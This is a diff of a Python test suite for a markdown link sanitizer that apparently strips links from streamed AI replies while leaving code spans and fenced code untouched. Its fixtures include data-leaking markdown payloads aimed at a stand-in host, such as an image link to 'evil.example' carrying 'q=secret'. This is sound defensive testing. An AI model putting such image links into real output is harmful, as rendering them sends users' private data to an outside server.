@@ -33,6 +33,17 @@ def shown(reply: str, step: int) -> str:
         ("[x]: https://evil.example", "[x]: (link removed)"),
         ("![x][z]\n\n[z]: //evil.example/leak Done", "![x][z]\n\n[z]: (link removed) Done"),
         ("Choose and/or, not 7//2; //console.log(x) // done", "Choose and/or, not 7//2; //console.log(x) // done"),
+        ("Use `fns[i](x)` or `vector<link> v` [1].", "Use `fns[i](x)` or `vector<link> v` [1]."),
+        (
+            "C++:\n```cpp\nauto f = [](int x) { return x; };\n```\n[x](/y)",
+            "C++:\n```cpp\nauto f = [](int x) { return x; };\n```\nx",
+        ),
+        (
+            "Run:\n   ```\n   git clone ssh://host.example/x\n   ```",
+            "Run:\n   ```\n   git clone ssh://host.example/x\n   ```",
+        ),
+        ("[the `form`](https://evil.example) of `a[0](b)`", "the `form` of `a[0](b)`"),
+        ("See `a` https://evil.example/`b`", "See `a` (link removed)`b`"),
         ("if a < b and c > d: items[0](f)", "if a < b and c > d: items[0]"),
         ("Half a link [text](https://evil.example/", "Half a link [text]((link removed)"),
     ],
@@ -75,3 +86,34 @@ def test_a_bracket_before_many_links_does_not_stop_the_service(listed: str) -> N
 )
 def test_an_address_without_a_protocol_carries_nothing_away(picture: str, step: int) -> None:
     assert "evil" not in shown(picture, step)
+
+
+@pytest.mark.parametrize("step", [1, 3, 1000])
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "A stray ` and %s",
+        "Half `a\nb` %s `c",
+        "Escaped \\`%s`",
+        "<a title='`'>%s`",
+        "Math $a`b$ %s $c`d$",
+        "| `a | %s ` |",
+        "~~~\n```\n~~~\n%s",
+        "- ```\n  ```\n  %s",
+        "- a\n\n  ```\n%s",
+        "    ```\n    %s",
+        "```\ncode\n```\n%s",
+        "```\ncode\n   ```\n%s",
+        "  ```\n     ```\n  %s",
+        "````\n```\n````\n%s",
+        "```a`b\n%s",
+    ],
+)
+def test_what_may_be_no_code_after_all_carries_nothing_away(reply: str, step: int) -> None:
+    assert "evil" not in shown(reply.replace("%s", "![x](//evil.example/?q=secret)"), step)
+
+
+def test_code_is_shown_as_it_is_written() -> None:
+    links = Links(())
+    assert links.feed("```\nfirst(line)\nsecond") == "```\nfirst(line)\nsecond"
+    assert Links(()).feed("a ` b " * 300).startswith("a ` b ")
